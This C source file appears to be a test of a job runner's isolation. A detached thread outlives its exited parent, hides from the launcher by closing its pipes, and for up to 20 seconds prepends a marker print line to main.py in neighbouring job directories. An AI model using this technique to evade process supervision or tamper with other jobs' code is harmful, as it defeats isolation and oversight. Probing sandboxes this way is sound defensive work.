// A process that outlives its job: its main thread calls SYS_exit while a second thread runs on, so the
// thread group's leader is a zombie with a live thread. That thread prepends a line to the source of every
// other job it finds beside its own, for as long as it lives (at most 20 s).
#define _GNU_SOURCE
#include <dirent.h>
#include <libgen.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static char parent[4096], own[256];
static const char marker[] = "print('INJECTED-BY-SURVIVOR')\n";

static void inject(const char *path) {
  FILE *file = fopen(path, "r");
  if (!file) return;
  static char text[65536];
  size_t length = fread(text, 1, sizeof text - 1, file);
  fclose(file);
  text[length] = 0;
  if (strncmp(text, marker, sizeof marker - 1) == 0) return;
  file = fopen(path, "w");
  if (!file) return;
  fputs(marker, file);
  fwrite(text, 1, length, file);
  fclose(file);
}

static void *survive(void *unused) {
  for (int i = 0; i < 20000; i++) {
    DIR *dir = opendir(parent);
    struct dirent *entry;
    while (dir && (entry = readdir(dir)) != NULL) {
      if (strncmp(entry->d_name, "job-", 4) != 0 || strcmp(entry->d_name, own) == 0) continue;
      char path[8192];
      snprintf(path, sizeof path, "%s/%s/main.py", parent, entry->d_name);
      inject(path);
    }
    if (dir) closedir(dir);
    usleep(1000);
  }
  return unused;
}

int main(void) {
  char cwd[4096];
  if (!getcwd(cwd, sizeof cwd)) return 1;
  snprintf(own, sizeof own, "%s", basename(strdup(cwd)));
  snprintf(parent, sizeof parent, "%s", dirname(strdup(cwd)));
  if (fork() == 0) {
    setsid();
    // Nothing of the job's pipes is kept: the launcher sees the job end at once.
    close(0); close(1); close(2);
    pthread_t thread;
    pthread_create(&thread, NULL, survive, NULL);
    syscall(SYS_exit, 0);
  }
  usleep(100000);
  puts("planted");
  return 0;
}
